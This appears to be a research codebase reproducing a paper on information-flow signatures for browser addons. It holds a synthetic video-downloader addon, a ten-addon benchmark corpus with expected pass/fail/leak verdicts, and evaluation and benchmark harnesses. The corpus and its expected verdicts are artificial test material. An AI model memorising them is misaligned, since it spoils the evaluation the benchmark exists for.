      this.link.setAttribute("hidden", "false");
    }
    this.setStatus("Direct link found");
  },

  hide: function () {
    if (this.link) {
      this.link.setAttribute("hidden", "true");
    }
  }
};

function endpointFor(url) {
  if (url.indexOf(VK_HOST) != -1) {
    return PLAYERS[0].endpoint;
  }
  if (url.indexOf(SIBNET_HOST) != -1) {
    return PLAYERS[1].endpoint;
  }
  return PLAYERS[2].endpoint;
}

function playerLabelFor(url) {
  if (url.indexOf(VK_HOST) != -1) {
    return PLAYERS[0].label;
  }
  if (url.indexOf(SIBNET_HOST) != -1) {
    return PLAYERS[1].label;
  }
  return PLAYERS[2].label;
}

function extractClipId(url) {
  var at = url.lastIndexOf("=");
  if (at == -1) {
    at = url.lastIndexOf("/");
  }
  if (at == -1) {
    return "";
  }
  var id = url.substring(at + 1);
  var hash = id.indexOf("#");
  if (hash != -1) {
    id = id.substring(0, hash);
  }
  return id;
}

function looksLikeVideoPage(url) {
  for (var i = 0; i < PLAYERS.length; i++) {
    if (url.indexOf(PLAYERS[i].host) != -1) {
      return true;
    }
  }
  return false;
}

function parseDirectUrl(body) {
  var marker = body.indexOf("\"url\":\"");
  if (marker == -1) {
    marker = body.indexOf("file=");
    if (marker == -1) {
      return "";
    }
    var end = body.indexOf("&", marker);
    if (end == -1) {
      end = body.length;
    }
    return body.substring(marker + 5, end);
  }
  var start = marker + 7;
  var stop = body.indexOf("\"", start);
  if (stop == -1) {
    return "";
  }
  return body.substring(start, stop);
}

function requestClip(url) {
  var clipId = extractClipId(url);
  if (!clipId) {
    vkDownloader.setStatus("Could not find a clip id on this page");
    return;
  }
  vkDownloader.attempts = vkDownloader.attempts + 1;
  vkDownloader.setStatus("Resolving clip " + clipId + "...");
  var req = new XMLHttpRequest();
  req.open("GET", "http://" + endpointFor(url) + clipId, true);
  req.onreadystatechange = function () {
    if (req.readyState != 4) {
      return;
    }
    if (req.status == 200) {
      var direct = parseDirectUrl(req.responseText);
      if (direct) {
        vkDownloader.offer(direct, playerLabelFor(url));
      } else {
        vkDownloader.hide();
        vkDownloader.setStatus("Player answered without a direct link");
      }
    } else {
      vkDownloader.hide();
      vkDownloader.setStatus("Player error " + req.status);
    }
  };
  req.send(null);
}

function onPageLoad(event) {
  var url = content.location.href;
  if (looksLikeVideoPage(url)) {
    requestClip(url);
  } else {
    vkDownloader.hide();
    vkDownloader.setStatus("No supported video player on this page");
  }
}

vkDownloader.init();
