"""The benchmark corpus: synthetic recreations of the paper's ten addons.

The paper evaluates on ten real addons from the Mozilla repository
(Table 1). Those addons are not redistributable (and not available
offline), so this corpus contains faithful *synthetic recreations*
written from the paper's per-addon descriptions: each reproduces the
original's security-relevant structure — its sources, sinks, flow types,
the prefix-domain outcome (including the two precision failures), and
the documented cause of each leak. See DESIGN.md for the substitution
argument.

Each :class:`AddonSpec` carries:

- the paper's Table 1 metadata (purpose, category, Rhino AST-node size,
  download count) for the Table 1 reproduction,
- the *manual signature* written from the developer summary (the
  paper's methodology: authored before looking at inference output),
- the ground-truth ``real_extras``: entries beyond the manual signature
  that are genuinely real (by construction), which lets the harness make
  the paper's fail/leak distinction mechanically,
- the expected Table 2 verdict.
"""

from __future__ import annotations

import importlib.resources
from dataclasses import dataclass
from functools import lru_cache

from repro.signatures import Signature, parse_signature


@dataclass(frozen=True)
class AddonSpec:
    """Metadata for one benchmark addon."""

    name: str
    filename: str
    purpose: str
    category: str  # "A" | "B" | "C" (Section 6.2)
    paper_ast_nodes: int
    paper_downloads: int
    expected_verdict: str  # "pass" | "fail" | "leak" (Table 2)
    manual_signature_text: str
    real_extras_text: str = ""
    notes: str = ""

    @property
    def manual_signature(self) -> Signature:
        return parse_signature(self.manual_signature_text)

    @property
    def real_extras(self) -> frozenset:
        return frozenset(parse_signature(self.real_extras_text).entries)

    def source(self) -> str:
        return load_source(self.filename)


@lru_cache(maxsize=None)
def load_source(filename: str) -> str:
    resource = importlib.resources.files("repro.addons").joinpath("js", filename)
    return resource.read_text(encoding="utf-8")


CORPUS: list[AddonSpec] = [
    AddonSpec(
        name="LivePagerank",
        filename="live_pagerank.js",
        purpose="Display PageRank for active URL",
        category="A",
        paper_ast_nodes=3900,
        paper_downloads=515_671,
        expected_verdict="pass",
        manual_signature_text=(
            "url -type1-> send(http://toolbarqueries.google.example/"
            "tbr?client=navclient&q=...)"
        ),
        notes=(
            "Sends the active URL to the toolbar-queries service, exactly "
            "as its summary says: the inferred signature matches."
        ),
    ),
    AddonSpec(
        name="LessSpamPlease",
        filename="less_spam_please.js",
        purpose="Generates a reusable anonymous real mail address",
        category="A",
        paper_ast_nodes=3696,
        paper_downloads=194_604,
        expected_verdict="fail",
        manual_signature_text="""
            url -type1-> send(https://api.lesspam.example/v2/alias/new?site=...)
            clipboard-write
        """,
        notes=(
            "Load-balances between two alias-service hosts with no common "
            "prefix; the prefix domain joins them to 'https://' and the "
            "network domain is lost — the paper's first fail (flow source/"
            "sink/type all still correct). The clipboard write is the "
            "documented copy-alias button."
        ),
    ),
    AddonSpec(
        name="YoutubeDownloader",
        filename="youtube_downloader.js",
        purpose="Youtube video downloader",
        category="B",
        paper_ast_nodes=3755,
        paper_downloads=7_600_428,
        expected_verdict="leak",
        manual_signature_text=(
            "url -type3-> send(http://www.youtube.example/get_video_info?video_id=...)"
        ),
        real_extras_text=(
            "url -type1-> send(http://www.youtube.example/get_video_info?video_id=...)"
        ),
        notes=(
            "Summary admits only activating on video pages (implicit URL "
            "dependence); the addon actually sends a video id computed "
            "directly from the URL — a real explicit flow (type1)."
        ),
    ),
    AddonSpec(
        name="VKVideoDownloader",
        filename="vk_video_downloader.js",
        purpose="Downloads videos from sites",
        category="B",
        paper_ast_nodes=2016,
        paper_downloads=459_028,
        expected_verdict="fail",
        manual_signature_text="""
            url -type1-> send(http://vk.example/video_ext.php?oid=...)
            url -type1-> send(http://video.sibnet.example/shell.php?videoid=...)
            url -type1-> send(http://rutube.example/api/video/...)
        """,
        notes=(
            "Checks the URL against three video-player domains and talks "
            "to the matching one; the prefix domain cannot keep the three "
            "apart, so the inferred domain degrades to 'http://' — the "
            "paper's second fail."
        ),
    ),
    AddonSpec(
        name="HyperTranslate",
        filename="hyper_translate.js",
        purpose="Translates selected text when key shorts are pressed",
        category="B",
        paper_ast_nodes=3576,
        paper_downloads=62_633,
        expected_verdict="pass",
        manual_signature_text=(
            "key -type3-> send(https://translate.google.example/translate_a/single)"
        ),
        notes=(
            "Key presses implicitly gate the translation request, and the "
            "addon listens continuously, so the flow is amplified: type3, "
            "matching the paper's manual signature."
        ),
    ),
    AddonSpec(
        name="Chess.comNotifier",
        filename="chess_com_notifier.js",
        purpose="Notifies your turn on chess.com",
        category="C",
        paper_ast_nodes=1079,
        paper_downloads=2_402,
        expected_verdict="pass",
        manual_signature_text=(
            "send(https://chess.example/api/echess/get_move_count)"
        ),
        notes=(
            "Polls game status; communicates with chess.example but leaks "
            "nothing interesting — a bare send entry."
        ),
    ),
    AddonSpec(
        name="CoffeePodsDeals",
        filename="coffee_pods_deals.js",
        purpose="Indicates coffee pods for sale",
        category="C",
        paper_ast_nodes=1670,
        paper_downloads=1_158,
        expected_verdict="pass",
        manual_signature_text=(
            "send(https://www.coffeepods.example/api/deals.json)"
        ),
    ),
    AddonSpec(
        name="oDeskJobWatcher",
        filename="odesk_job_watcher.js",
        purpose="Indicates oDesk job opening",
        category="C",
        paper_ast_nodes=609,
        paper_downloads=8_279,
        expected_verdict="pass",
        manual_signature_text=(
            "send(https://jobs.odesk.example/api/openings.json?feed=saved)"
        ),
    ),
    AddonSpec(
        name="PinPoints",
        filename="pin_points.js",
        purpose="Save clips (addresses) from web text",
        category="C",
        paper_ast_nodes=2146,
        paper_downloads=7_042,
        expected_verdict="leak",
        manual_signature_text=(
            "send(https://www.yourpinpoints.example/api/clips/save)"
        ),
        real_extras_text=(
            "send(https://maps.google.example/maps/api/geocode/json?address=...)"
        ),
        notes=(
            "Besides the documented save endpoint it geocodes clips via "
            "maps.google.example — intended behavior, but only mentioned "
            "in the addon's fine print; the signature surfaces it."
        ),
    ),
    AddonSpec(
        name="GoogleTransliterate",
        filename="google_transliterate.js",
        purpose="Allows user to type in Indian languages",
        category="C",
        paper_ast_nodes=4270,
        paper_downloads=77_413,
        expected_verdict="leak",
        manual_signature_text=(
            "send(https://inputtools.google.example/request?itc=...)"
        ),
        real_extras_text=(
            "url -type5-> send(https://inputtools.google.example/request?itc=...)"
        ),
        notes=(
            "Transliterates only when the current URL is not about:blank: "
            "a real implicit flow of one bit about the browsed page. The "
            "guard is an early return, so the control dependence is "
            "explicit-nonlocal and amplified (type5) — a finer "
            "classification than the paper's illustrative type3."
        ),
    ),
]

#: Name -> spec, for convenient lookup.
BY_NAME: dict[str, AddonSpec] = {spec.name: spec for spec in CORPUS}


def vet_addon(spec: AddonSpec, k: int = 1):
    """Run the pipeline on one benchmark addon, with comparison."""
    from repro.api import vet

    return vet(
        spec.source(),
        manual=spec.manual_signature,
        real_extras=spec.real_extras,
        k=k,
    )
