"""Full evaluation report generator.

Runs every experiment (Table 1, Table 2 with the paper's timing protocol,
the Figure 2 edge checklist, the string-domain ablation) and renders a
markdown report with paper-vs-measured values — the data backing
EXPERIMENTS.md.

Run: ``python -m repro.evaluation.report [--runs N]``
"""

from __future__ import annotations

import argparse

from repro.addons import CORPUS, vet_addon
from repro.domains.prefix import constant_string_mode
from repro.evaluation.figures import check_figure2
from repro.evaluation.table1 import compute_table1
from repro.evaluation.table2 import compute_table2

#: The paper's Table 2 timing columns (seconds), for side-by-side display.
PAPER_TIMES = {
    "LivePagerank": (15.9, 30.3, 0.5),
    "LessSpamPlease": (4.0, 24.0, 0.1),
    "YoutubeDownloader": (13.2, 22.4, 0.2),
    "VKVideoDownloader": (0.7, 8.7, 0.1),
    "HyperTranslate": (9.6, 30.9, 0.3),
    "Chess.comNotifier": (0.8, 2.1, 0.1),
    "CoffeePodsDeals": (0.4, 2.7, 0.1),
    "oDeskJobWatcher": (0.4, 0.9, 0.1),
    "PinPoints": (3.6, 16.9, 0.1),
    "GoogleTransliterate": (1.8, 10.87, 0.1),
}


def render_report(runs: int = 11) -> str:
    lines: list[str] = []
    emit = lines.append

    emit("# Evaluation report (generated)")
    emit("")
    emit(f"Timing protocol: {runs} runs per addon, first discarded, median")
    emit("of the rest per phase (the paper's Section 6.2 protocol).")
    emit("")

    # ------------------------------------------------------------- Table 1
    emit("## Table 1 — benchmark suite")
    emit("")
    emit("| Addon | Purpose | Cat. | Size (ours) | Size (paper) | Downloads (paper) |")
    emit("|---|---|---|---:|---:|---:|")
    for row in compute_table1():
        spec = row.spec
        emit(
            f"| {spec.name} | {spec.purpose} | {spec.category} "
            f"| {row.measured_ast_nodes:,} | {spec.paper_ast_nodes:,} "
            f"| {spec.paper_downloads:,} |"
        )
    emit("")

    # ------------------------------------------------------------- Table 2
    emit("## Table 2 — results and timings")
    emit("")
    emit(
        "| Addon | Result (ours) | Result (paper) | P1 ours/paper (s) "
        "| P2 ours/paper (s) | P3 ours/paper (s) |"
    )
    emit("|---|---|---|---|---|---|")
    rows = compute_table2(runs=runs)
    matches = 0
    for row in rows:
        paper_p1, paper_p2, paper_p3 = PAPER_TIMES[row.spec.name]
        matches += row.matches_paper
        emit(
            f"| {row.spec.name} | {row.verdict} | {row.spec.expected_verdict} "
            f"| {row.times.p1:.2f} / {paper_p1} "
            f"| {row.times.p2:.2f} / {paper_p2} "
            f"| {row.times.p3:.2f} / {paper_p3} |"
        )
    emit("")
    emit(f"Verdicts matching the paper: **{matches}/{len(rows)}**.")
    emit("")
    emit("Per-addon deviations from the manual signature:")
    emit("")
    for row in rows:
        if row.extra_entries or row.missing_entries:
            emit(f"- **{row.spec.name}** ({row.verdict}):")
            for entry in row.extra_entries:
                emit(f"  - extra: `{entry}`")
            for entry in row.missing_entries:
                emit(f"  - missing: `{entry}`")
    emit("")

    # ------------------------------------------------------------ Figure 2
    emit("## Figure 2 — annotated PDG of the worked example")
    emit("")
    emit("| Edge | Annotation | Present |")
    emit("|---|---|---|")
    for source, target, annotation, ok in check_figure2():
        emit(f"| line {source} -> line {target} | `{annotation}` | {'yes' if ok else 'NO'} |")
    emit("")

    # ------------------------------------------------ String-domain ablation
    emit("## Section 5 — prefix domain vs constant strings (ablation)")
    emit("")
    usable_prefix = _usable_domain_count()
    with constant_string_mode():
        usable_const = _usable_domain_count()
    emit(f"- prefix domain: usable network domain for **{usable_prefix}/10** addons")
    emit(f"  (paper: \"in the remaining eight out of the ten addons, our prefix")
    emit(f"  string analysis can determine the exact domains\");")
    emit(f"- constant strings only: **{usable_const}/10** — the prefix domain's")
    emit(f"  advantage the paper motivates in Section 5.")
    return "\n".join(lines)


def _usable_domain_count(min_length: int = 12) -> int:
    usable = 0
    for spec in CORPUS:
        report = vet_addon(spec)
        domains = [
            entry.domain
            for entry in report.signature.entries
            if getattr(entry, "domain", None) is not None
        ]
        if domains and all(
            d.text is not None and len(d.text) >= min_length for d in domains
        ):
            usable += 1
    return usable


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--runs", type=int, default=11)
    arguments = parser.parse_args()
    print(render_report(runs=arguments.runs))


if __name__ == "__main__":
    main()
