"""Figure reproductions.

- :func:`figure1_program` / :func:`figure2_edges` — the worked example of
  Section 3: the program of Figure 1 and its annotated PDG (Figure 2),
  with the edges the paper's text calls out checked explicitly.
- :func:`figure4_lattice` — the flow-type lattice rendered with each
  type's annotation and rank.

Run: ``python -m repro.evaluation.figures``
"""

from __future__ import annotations

from repro.analysis.environment import DefaultEnvironment
from repro.api import analyze_addon, build_addon_pdg
from repro.ir.nodes import EntryStmt, ExitStmt
from repro.pdg import Annotation
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowType

FIGURE1_PROGRAM = """var data = { url: doc.loc };
send(data.url);
send(data[getString()]);
func();
if (doc.loc == "secret.com")
  send(null);
var arr = ["covert.com", "priv.com"];
var i = 0, count = 0;
while(arr[i] && doc.loc != arr[i]) {
  i++;
  count++; }
send(count);
try {
  if (doc.loc != "hush-hush.com")
    throw "irrelevant";
  send(null);
} catch(x) {};
try {
  if (doc.loc != "mystic.com")
    obj.prop = 1;
  send(null);
} catch(x) {}"""

#: The edges Figure 2 highlights, as (source line, target line, annotation).
FIGURE2_EXPECTED = [
    (1, 2, Annotation.DATA_STRONG),
    (1, 3, Annotation.DATA_WEAK),
    (5, 6, Annotation.LOCAL),
    (9, 10, Annotation.LOCAL_AMP),
    (9, 11, Annotation.LOCAL_AMP),
    (11, 12, Annotation.DATA_STRONG),
    (14, 16, Annotation.NONLOC_EXP),
    (20, 21, Annotation.NONLOC_IMP),
]


def figure1_program() -> str:
    return FIGURE1_PROGRAM


def figure2_edges() -> dict[tuple[int, int], set[Annotation]]:
    """Build the annotated PDG for the Figure 1 program and project onto
    source lines (synthetic entry/exit statements excluded)."""
    program, result = analyze_addon(
        FIGURE1_PROGRAM, event_loop=False, environment=DefaultEnvironment()
    )
    pdg = build_addon_pdg(result)
    projected: dict[tuple[int, int], set[Annotation]] = {}
    skip = (EntryStmt, ExitStmt)
    for (source, target), annotations in pdg.edges.items():
        if isinstance(program.stmts[source], skip):
            continue
        if isinstance(program.stmts[target], skip):
            continue
        pair = (program.stmts[source].line, program.stmts[target].line)
        if pair[0] == pair[1]:
            continue
        projected.setdefault(pair, set()).update(annotations)
    return projected


def check_figure2() -> list[tuple[int, int, Annotation, bool]]:
    """Check every highlighted Figure 2 edge; returns (src, dst, ann, ok)."""
    edges = figure2_edges()
    outcomes = []
    for source, target, annotation in FIGURE2_EXPECTED:
        present = annotation in edges.get((source, target), set())
        outcomes.append((source, target, annotation, present))
    return outcomes


def render_figure2() -> str:
    lines = ["Figure 2: annotated PDG of the Figure 1 example", ""]
    edges = figure2_edges()
    for (source, target), annotations in sorted(edges.items()):
        rendered = ", ".join(sorted(str(a) for a in annotations))
        lines.append(f"  line {source:>2} -> line {target:<2}  [{rendered}]")
    lines.append("")
    lines.append("Edges highlighted in the paper:")
    for source, target, annotation, ok in check_figure2():
        status = "ok" if ok else "MISSING"
        lines.append(f"  {source:>2} --{annotation}--> {target:<2}  {status}")
    return "\n".join(lines)


def figure4_lattice() -> list[tuple[FlowType, int, Annotation]]:
    """(flow type, rank, keyed annotation) triples, strongest first."""
    lattice = DEFAULT_LATTICE
    return sorted(
        (
            (flow_type, rank, annotation)
            for flow_type, (rank, annotation) in lattice.structure.items()
        ),
        key=lambda triple: (triple[1], triple[0].value),
    )


def render_figure4() -> str:
    lines = ["Figure 4: flow types ordered in a lattice of perceived strength", ""]
    current_rank = None
    for flow_type, rank, annotation in figure4_lattice():
        if rank != current_rank:
            indent = "  " * (rank + 1)
            lines.append("")
            current_rank = rank
        lines.append(f"{'  ' * (rank + 1)}{flow_type} ({annotation})")
    return "\n".join(lines)


def main() -> None:
    print(render_figure2())
    print()
    print(render_figure4())


if __name__ == "__main__":
    main()
