"""Plain-text table rendering shared by the evaluation harness."""

from __future__ import annotations


def render_table(headers: list[str], rows: list[list[str]], title: str = "") -> str:
    """Render a simple aligned text table."""
    widths = [len(header) for header in headers]
    for row in rows:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))

    def render_row(cells: list[str]) -> str:
        return "  ".join(cell.ljust(widths[i]) for i, cell in enumerate(cells)).rstrip()

    lines: list[str] = []
    if title:
        lines.append(title)
        lines.append("=" * len(title))
    lines.append(render_row(headers))
    lines.append(render_row(["-" * w for w in widths]))
    for row in rows:
        lines.append(render_row(row))
    return "\n".join(lines)


def format_count(value: int) -> str:
    """Render 7600428 as "7,600,428" (Table 1 style)."""
    return f"{value:,}"
