"""Table 1 reproduction: the benchmark suite.

The paper's Table 1 lists each addon's name, listed purpose, category,
size (Rhino AST nodes), and download count. We regenerate the table with
our frontend's AST node count as the size metric (the direct analogue of
the Rhino count) side by side with the paper's numbers; download counts
are carried from the paper (they are repository metadata, not
measurable from code).

Run: ``python -m repro.evaluation.table1``
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.addons import CORPUS, AddonSpec
from repro.batch import parallel_map
from repro.evaluation.tables import format_count, render_table
from repro.js import node_count, parse


@dataclass
class Table1Row:
    spec: AddonSpec
    measured_ast_nodes: int


def _measure(spec: AddonSpec) -> Table1Row:
    """Module-level so the row computation can cross a process boundary."""
    return Table1Row(spec=spec, measured_ast_nodes=node_count(parse(spec.source())))


def compute_table1(workers: int | None = None) -> list[Table1Row]:
    """Parse every corpus addon and measure its size (fanned out over
    the batch engine's worker pool when more than one CPU is available)."""
    return parallel_map(_measure, CORPUS, workers=workers)


def render_table1(rows: list[Table1Row]) -> str:
    return render_table(
        headers=[
            "Addon Name", "Listed Purpose", "Cat.",
            "Size (ours)", "Size (paper)", "# Downloads (paper)",
        ],
        rows=[
            [
                row.spec.name,
                row.spec.purpose,
                row.spec.category,
                format_count(row.measured_ast_nodes),
                format_count(row.spec.paper_ast_nodes),
                format_count(row.spec.paper_downloads),
            ]
            for row in rows
        ],
        title="Table 1: benchmark addons",
    )


def main() -> None:
    print(render_table1(compute_table1()))


if __name__ == "__main__":
    main()
