"""``addon-sig bench``: the corpus benchmark harness.

Runs the full benchmark corpus through the batch vetting engine under
the paper's timing protocol (``runs`` pipeline executions per addon,
first discarded, per-phase medians of the rest — Section 6.2) and writes
a machine-readable ``BENCH_corpus.json``:

- per addon: P1/P2/P3 median times, hot-path counters (fixpoint steps,
  states created, joins, PDG edges, ...), AST size, verdict;
- corpus totals plus the end-to-end wall time of the sweep itself (which
  is what the parallel engine improves — per-addon medians measure the
  single-pipeline hot paths).

Run: ``addon-sig bench [--runs N] [--workers N] [--output FILE]``.
"""

from __future__ import annotations

import argparse
import time
from pathlib import Path

from repro.addons import CORPUS
from repro.batch import summarize, vet_corpus, vet_many

SCHEMA = "addon-sig/bench-corpus/v8"


def _hit_rate(hits: int, total: int) -> float | None:
    """``hits/total`` rounded — or ``None`` (a null rate, not a crash)
    when the corpus was empty or fully filtered and ``total`` is 0."""
    if total == 0:
        return None
    return round(hits / total, 4)

#: Where the examples corpus (the prefilter's benchmark) lives.
EXAMPLES_DIR = "examples/addons"

#: Where the versioned update pairs (the fast lane's benchmark) live.
VERSIONS_DIR = "examples/addons/versions"

#: Where the WebExtensions mini-corpus (the multi-file pipeline's
#: benchmark) lives: one directory per extension, each with a manifest.
EXTENSIONS_DIR = "examples/extensions"


def _bench_prefilter(examples_dir: str | Path | None) -> dict | None:
    """Measure the relevance prefilter on the examples corpus.

    Vets every ``*.js`` under ``examples_dir`` twice — prefilter on,
    prefilter off — in-process, uncached, with ``recover=True`` (the
    corpus deliberately contains an unparseable legacy addon). Returns
    the hit rate, both wall clocks, and whether the two sweeps produced
    bit-identical signatures (they must: the prefilter is sound)."""
    from repro.batch import VetTask

    if examples_dir is None:
        return None
    directory = Path(examples_dir)
    if not directory.is_dir():
        return None
    files = sorted(directory.glob("*.js"))
    if not files:
        # The directory exists but holds nothing vettable (empty or
        # fully filtered): a zero-count section with a null rate — the
        # old ``hits / len(files)`` was a ZeroDivisionError here.
        return {
            "corpus": str(directory), "addons": 0, "hits": 0,
            "hit_rate": None, "wall_on_s": 0.0, "wall_off_s": 0.0,
            "wall_delta_s": 0.0, "identical_signatures": True,
        }

    def tasks(prefilter: bool) -> list[VetTask]:
        return [
            VetTask(
                name=path.name,
                source=path.read_text(encoding="utf-8"),
                recover=True,
                prefilter=prefilter,
            )
            for path in files
        ]

    start = time.perf_counter()
    with_prefilter = vet_many(tasks(True), use_cache=False, workers=1)
    wall_on = time.perf_counter() - start
    start = time.perf_counter()
    without_prefilter = vet_many(tasks(False), use_cache=False, workers=1)
    wall_off = time.perf_counter() - start
    hits = sum(1 for outcome in with_prefilter if outcome.prefiltered)
    return {
        "corpus": str(directory),
        "addons": len(files),
        "hits": hits,
        "hit_rate": _hit_rate(hits, len(files)),
        "wall_on_s": round(wall_on, 6),
        "wall_off_s": round(wall_off, 6),
        "wall_delta_s": round(wall_off - wall_on, 6),
        "identical_signatures": all(
            on.signature_text == off.signature_text
            for on, off in zip(with_prefilter, without_prefilter)
        ),
    }


def _bench_preanalysis(examples_dir: str | Path | None) -> dict | None:
    """Measure the whole-program pre-analysis on the examples corpus.

    Vets every ``*.js`` under ``examples_dir`` twice — pre-analysis on,
    pre-analysis off — with the prefilter enabled in both arms,
    in-process, uncached, ``recover=True``. Records the computed-site
    resolution rate, the fraction of AST nodes pruned as unreachable,
    the prefilter hit rate in each arm (the resolver's contribution is
    the difference), both wall clocks, and whether the arms produced
    bit-identical signatures (they must: resolution and pruning are
    sound)."""
    from repro.batch import VetTask

    if examples_dir is None:
        return None
    directory = Path(examples_dir)
    if not directory.is_dir():
        return None
    files = sorted(directory.glob("*.js"))
    if not files:
        return {
            "corpus": str(directory), "addons": 0, "resolved_sites": 0,
            "residual_dynamic_sites": 0, "resolution_rate": None,
            "pruned_nodes": 0, "pruned_node_fraction": None,
            "callgraph_edges": 0, "hits_with_preanalysis": 0,
            "hit_rate_with_preanalysis": None, "hits_without_preanalysis": 0,
            "hit_rate_without_preanalysis": None, "wall_on_s": 0.0,
            "wall_off_s": 0.0, "wall_delta_s": 0.0,
            "identical_signatures": True,
        }

    def tasks(preanalysis: bool) -> list[VetTask]:
        return [
            VetTask(
                name=path.name,
                source=path.read_text(encoding="utf-8"),
                recover=True,
                prefilter=True,
                preanalysis=preanalysis,
            )
            for path in files
        ]

    start = time.perf_counter()
    with_pre = vet_many(tasks(True), use_cache=False, workers=1)
    wall_on = time.perf_counter() - start
    start = time.perf_counter()
    without_pre = vet_many(tasks(False), use_cache=False, workers=1)
    wall_off = time.perf_counter() - start

    resolved = sum(o.counters.get("resolved_sites", 0) for o in with_pre)
    residual = sum(
        o.counters.get("residual_dynamic_sites", 0) for o in with_pre
    )
    pruned = sum(o.counters.get("pruned_nodes", 0) for o in with_pre)
    edges = sum(o.counters.get("callgraph_edges", 0) for o in with_pre)
    total_nodes = sum(o.ast_nodes or 0 for o in with_pre)
    hits_on = sum(1 for o in with_pre if o.prefiltered)
    hits_off = sum(1 for o in without_pre if o.prefiltered)
    return {
        "corpus": str(directory),
        "addons": len(files),
        "resolved_sites": resolved,
        "residual_dynamic_sites": residual,
        # Of all computed property sites, how many the constant-string
        # lattice pinned down to named accesses.
        "resolution_rate": _hit_rate(resolved, resolved + residual),
        "pruned_nodes": pruned,
        "pruned_node_fraction": (
            _hit_rate(pruned, total_nodes + pruned) if total_nodes else None
        ),
        "callgraph_edges": edges,
        # The prefilter's hit rate with and without the resolver — the
        # difference is what the pre-analysis buys the fast lane.
        "hits_with_preanalysis": hits_on,
        "hit_rate_with_preanalysis": _hit_rate(hits_on, len(files)),
        "hits_without_preanalysis": hits_off,
        "hit_rate_without_preanalysis": _hit_rate(hits_off, len(files)),
        "wall_on_s": round(wall_on, 6),
        "wall_off_s": round(wall_off, 6),
        "wall_delta_s": round(wall_off - wall_on, 6),
        "identical_signatures": all(
            on.signature_text == off.signature_text
            for on, off in zip(with_pre, without_pre)
        ),
    }


def _bench_incremental(versions_dir: str | Path | None) -> dict | None:
    """Measure the incremental fast lane on the versioned update pairs.

    For every pair under ``versions_dir`` the approved old version is
    vetted once to establish the baseline signature, then the new
    version is vetted twice — fast lane on, fast lane off — in-process,
    uncached. Returns the certificate hit count/rate, both wall clocks,
    and whether the fast lane served bit-identical signatures to the
    full re-analysis (it must: the certificate is sound)."""
    from repro.batch import VetTask
    from repro.diffvet import discover_pairs

    if versions_dir is None:
        return None
    if not Path(versions_dir).is_dir():
        return None
    pairs = discover_pairs(versions_dir)
    if not pairs:
        # Existing-but-empty chains directory: null rate, zero counts
        # (the old ``hits / len(pairs)`` divided by zero).
        return {
            "corpus": str(versions_dir), "pairs": 0, "hits": 0,
            "hit_rate": None, "certifications_attempted": 0,
            "certifications_skipped": 0, "wall_incremental_s": 0.0,
            "wall_full_s": 0.0, "wall_delta_s": 0.0,
            "identical_signatures": True, "verdicts": {},
        }

    baselines = vet_many(
        [
            VetTask(name=f"{pair.name}@old", source=pair.old_source(),
                    recover=True)
            for pair in pairs
        ],
        use_cache=False, workers=1,
    )

    def tasks(incremental: bool) -> list[VetTask]:
        return [
            VetTask(
                name=f"{pair.name}@new",
                source=pair.new_source(),
                recover=True,
                baseline_source=pair.old_source(),
                baseline_signature_text=baseline.signature_text,
                incremental=incremental,
            )
            for pair, baseline in zip(pairs, baselines)
        ]

    start = time.perf_counter()
    fast = vet_many(tasks(True), use_cache=False, workers=1)
    wall_incremental = time.perf_counter() - start
    start = time.perf_counter()
    full = vet_many(tasks(False), use_cache=False, workers=1)
    wall_full = time.perf_counter() - start
    hits = sum(1 for outcome in fast if outcome.incremental)
    attempted = sum(
        outcome.counters.get("certification_attempted", 0) for outcome in fast
    )
    skipped = sum(
        outcome.counters.get("certification_skipped", 0) for outcome in fast
    )
    verdicts: dict[str, int] = {}
    for outcome in fast:
        if outcome.diff_verdict:
            key = outcome.diff_verdict
            verdicts[key] = verdicts.get(key, 0) + 1
    return {
        "corpus": str(versions_dir),
        "pairs": len(pairs),
        "hits": hits,
        "hit_rate": _hit_rate(hits, len(pairs)),
        # The cost gate's economics: certificates attempted vs. skipped
        # because full re-analysis was predicted cheaper.
        "certifications_attempted": attempted,
        "certifications_skipped": skipped,
        "wall_incremental_s": round(wall_incremental, 6),
        "wall_full_s": round(wall_full, 6),
        "wall_delta_s": round(wall_full - wall_incremental, 6),
        "identical_signatures": all(
            on.signature_text == off.signature_text
            for on, off in zip(fast, full)
        ),
        "verdicts": verdicts,
    }


def _bench_webext(extensions_dir: str | Path | None, runs: int = 3) -> dict | None:
    """Measure the multi-file WebExtensions pipeline on the mini-corpus.

    Each extension directory under ``extensions_dir`` is vetted ``runs``
    times under the paper's timing protocol (warm-up discarded, per-phase
    medians of the rest) with the prefilter off, recording the
    cross-component shape of each run (components, dispatched channels,
    sender guards). A second single-pass sweep with the prefilter on
    yields the bundle-level hit rate and the bit-identical-signatures
    soundness check."""
    import statistics

    from repro.api import vet
    from repro.webext.loader import load_source

    if extensions_dir is None:
        return None
    directory = Path(extensions_dir)
    if not directory.is_dir():
        return None
    roots = sorted(
        child for child in directory.iterdir()
        if child.is_dir() and (child / "manifest.json").exists()
    )
    if not roots:
        # Existing-but-manifestless directory: zero-count section with
        # a null rate (``hits / len(extensions)`` used to divide by 0).
        return {
            "corpus": str(directory), "extensions": [], "count": 0,
            "prefilter_hits": 0, "prefilter_hit_rate": None,
            "identical_signatures": True,
        }

    extensions = []
    hits = 0
    identical = True
    for root in roots:
        source = load_source(root)
        samples = [vet(source, prefilter=False) for _ in range(max(runs, 1))]
        kept = samples[1:] if len(samples) > 1 else samples
        report = kept[-1]
        filtered = vet(source, prefilter=True)
        if filtered.prefiltered:
            hits += 1
        if filtered.signature.render() != report.signature.render():
            identical = False
        extensions.append({
            "name": root.name,
            "degraded": report.degraded,
            "prefiltered": filtered.prefiltered,
            "ast_nodes": report.ast_nodes,
            "p1_s": round(statistics.median(s.phase_times.p1 for s in kept), 6),
            "p2_s": round(statistics.median(s.phase_times.p2 for s in kept), 6),
            "p3_s": round(statistics.median(s.phase_times.p3 for s in kept), 6),
            "total_s": round(
                statistics.median(s.phase_times.total for s in kept), 6
            ),
            "samples_kept": len(kept),
            "components": report.counters.get("components", 0),
            "channels": report.counters.get("channels", 0),
            "sender_guards": report.counters.get("sender_guards", 0),
            "signature_entries": report.counters.get("signature_entries", 0),
        })
    return {
        "corpus": str(directory),
        "extensions": extensions,
        "count": len(extensions),
        "prefilter_hits": hits,
        "prefilter_hit_rate": _hit_rate(hits, len(extensions)),
        "identical_signatures": identical,
    }


def run_bench(
    runs: int = 3,
    k: int = 1,
